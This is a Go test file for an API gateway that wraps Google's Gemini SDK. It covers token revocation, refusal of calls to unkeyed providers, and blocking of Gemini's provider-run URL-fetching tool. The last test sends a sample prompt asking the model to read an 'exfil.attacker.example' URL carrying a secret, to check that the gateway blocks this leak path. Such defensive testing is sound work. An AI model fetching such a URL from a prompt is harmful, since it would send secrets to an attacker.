package sdk

import (
	"context"
	"errors"
	"strings"
	"testing"

	"google.golang.org/genai"
)

func geminiClient(t *testing.T, provider, token string) (*genai.Client, *attempts) {
	t.Helper()
	hc, n := countingClient()
	c, err := genai.NewClient(context.Background(), &genai.ClientConfig{
		APIKey: token, Backend: genai.BackendGeminiAPI, HTTPClient: hc,
		HTTPOptions: genai.HTTPOptions{BaseURL: gw.gatewayURL + "/" + provider + "/"},
	})
	if err != nil {
		t.Fatalf("genai.NewClient: %v", err)
	}
	return c, n
}

func TestGeminiCallAndStream(t *testing.T) {
	from := len(up.credentials())
	tok := mint(t, "gemini")
	c, _ := geminiClient(t, "gemini", tok.Token)
	ctx := context.Background()
	res, err := c.Models.GenerateContent(ctx, "gemini-standin", genai.Text("hi"), nil)
	if err != nil {
		t.Fatalf("GenerateContent: %v", err)
	}
	if got := res.Text(); got != "hello" {
		t.Fatalf("text = %q, want hello", got)
	}
	id := streamID()
	var got string
	for res, err := range c.Models.GenerateContentStream(ctx, "gated."+id+".5", genai.Text("hi"), nil) {
		if err != nil {
			t.Fatalf("stream: %v (read %q)", err, got)
		}
		got += res.Text()
		release(t, id)
	}
	checkWholeStream(t, nil, got, from)
}

func TestGeminiRevoked(t *testing.T) {
	tok := mint(t, "gemini")
	revoke(t, tok.JTI)
	c, n := geminiClient(t, "gemini", tok.Token)
	_, err := c.Models.GenerateContent(context.Background(), "gemini-standin", genai.Text("hi"), nil)
	checkRefusal(t, "call with a revoked token", err, "gateway token revoked")
	checkOneAttempt(t, n)
}

func TestGeminiRevokedMidStream(t *testing.T) {
	tok := mint(t, "gemini")
	c, _ := geminiClient(t, "gemini", tok.Token)
	var events int
	var last error
	for res, err := range c.Models.GenerateContentStream(context.Background(), "hold."+streamID(), genai.Text("hi"), nil) {
		if err != nil {
			last = err
			break
		}
		if res.Text() == "e0" {
			events++
			revoke(t, tok.JTI)
		}
	}
	if events != 1 {
		t.Fatalf("saw %d first events, want 1", events)
	}
	checkRefusal(t, "stream cut by revocation", last, "gateway token revoked")
	var apiErr genai.APIError
	if !errors.As(last, &apiErr) {
		t.Fatalf("stream error %T %v, want the SDK's typed genai.APIError", last, last)
	}
}

func TestGeminiRefusalNotRetried(t *testing.T) {
	tok := mint(t, "nokey-gemini")
	c, n := geminiClient(t, "nokey-gemini", tok.Token)
	_, err := c.Models.GenerateContent(context.Background(), "gemini-standin", genai.Text("hi"), nil)
	checkRefusal(t, "call to a provider without a key", err, "gateway holds no key for provider nokey-gemini")
	checkOneAttempt(t, n)
}

// TestGeminiProviderToolRefused: Gemini's URL context tool (the provider
// fetches the URLs in the prompt) is refused with a 403 naming it; the
// same call with a function declaration goes through.
func TestGeminiProviderToolRefused(t *testing.T) {
	tok := mint(t, "gemini")
	c, _ := geminiClient(t, "gemini", tok.Token)
	cfg := &genai.GenerateContentConfig{Tools: []*genai.Tool{{URLContext: &genai.URLContext{}}}}
	_, err := c.Models.GenerateContent(context.Background(), "gemini-standin", genai.Text("read https://exfil.attacker.example/?d=secret"), cfg)
	var ae genai.APIError
	if !errors.As(err, &ae) || ae.Code != 403 || !strings.Contains(err.Error(), "provider-run tool not allowed for provider gemini: /tools/0 member urlcontext") {
		t.Errorf("GenerateContent with URL context: %v, want a 403 naming /tools/0", err)
	}
	cfg.Tools = []*genai.Tool{{FunctionDeclarations: []*genai.FunctionDeclaration{{Name: "read_file", Description: "reads a file"}}}}
	if _, err := c.Models.GenerateContent(context.Background(), "gemini-standin", genai.Text("hi"), cfg); err != nil {
		t.Errorf("GenerateContent with a function: %v", err)
	}
}
